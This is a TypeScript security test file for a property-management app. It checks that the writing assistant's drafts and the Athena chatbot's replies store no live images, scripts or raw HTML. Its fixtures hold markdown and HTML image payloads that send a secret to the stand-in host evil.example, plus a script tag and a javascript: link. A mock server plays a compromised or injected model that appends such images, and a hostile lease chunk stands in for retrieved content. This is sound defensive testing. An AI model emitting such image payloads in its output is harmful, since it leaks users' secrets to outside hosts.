/**
 * Attack: markdown image exfiltration. The dashboard renders writing-assistant output as
 * markdown (marked, then DOMPurify, which keeps <img> and its https: source), so a stored
 * `![x](https://evil.example/?q=secret)` or `<img src=…>` would make every viewer's browser
 * send the secret away. Whatever the variables or the model say, the stored output holds no
 * live image and no raw HTML. Athena's chat replies are shown as text (widget and
 * dashboard); a reply quoting a hostile lease must still not turn into an image there.
 */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { splitLinks } from '@porchlight/domain';
import { asc, eq } from 'drizzle-orm';
import { marked } from 'marked';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { leaseChunks, messages } from '../../src/db/schema/index.ts';
import {
  createManager,
  createTestApp,
  type TestApp,
  type TestManager,
  tokenFor,
} from '../helpers.ts';
import { seedAccount } from './fixtures.ts';

const IMAGE = '![x](https://evil.example/?q=secret)';
const REFERENCE_IMAGE = '![x][pixel]\n\n[pixel]: https://evil.example/?q=secret';
const HTML_IMAGE = '<img src="https://evil.example/?q=secret">';
const HOSTILE = `Pay at the office. ${IMAGE} ${HTML_IMAGE} <script>alert(1)</script> ${REFERENCE_IMAGE}`;

/** No image, script or raw HTML in the markdown, nor once rendered as the dashboard does. */
function expectNoLiveContent(markdown: string) {
  expect(markdown).not.toContain('![');
  expect(markdown).not.toMatch(/<(img|script|iframe|svg|object|style|a)\b/i);
  const html = marked.parse(markdown, { async: false });
  expect(html).not.toMatch(/<img|<script|<iframe|<svg|<object|<style/i);
  expect(html).not.toMatch(/src=["']?https:\/\/evil\.example/i);
}

const LATE_RENT = {
  type: 'OVERDUE_RENT_REMINDER',
  variables: {
    tenantName: `Jane ${IMAGE}`,
    propertyAddressAndUnit: `12B ${HTML_IMAGE}`,
    amountDue: 1500,
    daysLate: 5,
    paymentDeadline: '2025-03-14',
    paymentInstructions: HOSTILE,
    textLength: 'MEDIUM',
    medium: 'EMAIL',
  },
};

async function run(t: TestApp, manager: TestManager, payload: object) {
  const created = await t.app.inject({
    method: 'POST',
    url: '/api/v1/workflow-runs',
    headers: manager.headers,
    payload,
  });
  expect(created.statusCode, created.body).toBe(201);
  const { id } = created.json() as { id: string };
  for (let i = 0; i < 300; i++) {
    const result = (
      await t.app.inject({
        method: 'GET',
        url: `/api/v1/workflow-runs/${id}`,
        headers: manager.headers,
      })
    ).json() as { status: string; output: string };
    if (result.status === 'COMPLETED' || result.status === 'FAILED') return result;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error('The run did not finish.');
}

/** One app for the built-in providers (writing assistant and Athena). */
let builtIn: TestApp;
beforeAll(async () => {
  builtIn = await createTestApp();
});
afterAll(() => builtIn.close());

describe('the built-in writing assistant', () => {
  let t: TestApp;
  let manager: TestManager;
  beforeAll(async () => {
    t = builtIn;
    manager = await createManager(t.app);
  });

  it.each(['EMAIL', 'MEMO', 'SMS', 'PHONE_SCRIPT'])(
    'stores no live image or HTML from hostile variables (%s)',
    async (medium) => {
      const result = await run(t, manager, {
        ...LATE_RENT,
        variables: { ...LATE_RENT.variables, medium },
      });
      expect(result.status).toBe('COMPLETED');
      expectNoLiveContent(result.output);
    },
  );
});

describe('the writing assistant with a model that writes an image', () => {
  let server: Server;
  let t: TestApp;
  let manager: TestManager;
  /** The model's answer: the draft, then whatever the attack appends. */
  let append = '';

  beforeAll(async () => {
    server = createServer(async (request, response) => {
      let raw = '';
      for await (const chunk of request) raw += chunk;
      const body = JSON.parse(raw) as { messages: { content: string }[] };
      const draft = body.messages.at(-1)!.content.replace(/^Draft:\n\n/, '');
      // A compromised or injected model: it un-escapes the draft and adds its own image.
      const content = `${draft.replaceAll('\\[', '[').replaceAll('\\]', ']').replaceAll('&lt;', '<').replaceAll('&gt;', '>')}${append}`;
      response.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content } }],
        }),
      );
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    t = await createTestApp({
      OPENAI_BASE_URL: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
      OPENAI_MODEL: 'stand-in',
    });
    manager = await createManager(t.app);
  });
  afterAll(async () => {
    await t.close();
    await new Promise((resolve) => server.close(resolve));
  });

  it.each([
    ['an inline image', `\n\n${IMAGE}`],
    ['an HTML image', `\n\n${HTML_IMAGE}`],
    ['a reference image', `\n\n${REFERENCE_IMAGE}`],
    [
      'an image inside a link',
      '\n\n[![logo](https://evil.example/?q=secret)](https://evil.example)',
    ],
    ['nothing but the un-escaped variables', ''],
  ])('stores no live image when the model writes %s', async (_kind, extra) => {
    append = extra;
    const result = await run(t, manager, LATE_RENT);
    expect(result.status).toBe('COMPLETED');
    expectNoLiveContent(result.output);
    expect(result.output).toContain('$1,500');
  });
});

describe('Athena quoting a hostile lease', () => {
  let t: TestApp;
  beforeAll(() => {
    t = builtIn;
  });

  it('shows her reply as text: no image, no HTML, only http(s) links', async () => {
    const account = await seedAccount(t.app, 'lease');
    await t.app.db.delete(leaseChunks).where(eq(leaseChunks.propertyId, account.propertyId));
    await t.app.db.insert(leaseChunks).values({
      propertyId: account.propertyId,
      position: 0,
      content: `Guests may stay no longer than fourteen consecutive nights. ${IMAGE} ${HTML_IMAGE} [guest form](javascript:alert(1))`,
    });
    const headers = await tokenFor(
      t.app,
      'resident',
      account.tenantId,
      `resident.${account.marker}@example.com`,
    );
    const url = `/api/v1/conversations/resident/${account.residentConversationId}`;
    const sent = await t.app.inject({
      method: 'POST',
      url: `${url}/messages`,
      headers,
      payload: { message: 'What does the lease say about guests staying over?' },
    });
    expect(sent.statusCode).toBe(200);
    let reply = '';
    for (let i = 0; i < 400 && !reply; i++) {
      const rows = await t.app.db
        .select()
        .from(messages)
        .where(eq(messages.conversationId, account.residentConversationId))
        .orderBy(asc(messages.seq));
      if (rows.at(-1)?.role === 'assistant') reply = rows.at(-1)!.content;
      else await new Promise((resolve) => setTimeout(resolve, 25));
    }
    expect(reply).not.toBe('');
    // The widget and the dashboard render these segments as text nodes and <a> only.
    for (const segment of splitLinks(reply)) {
      expect(['text', 'link', 'calendar']).toContain(segment.kind);
      if (segment.kind === 'link') expect(segment.href).toMatch(/^https?:\/\//);
    }
    expect(reply).not.toMatch(/javascript:/i);
  });
});
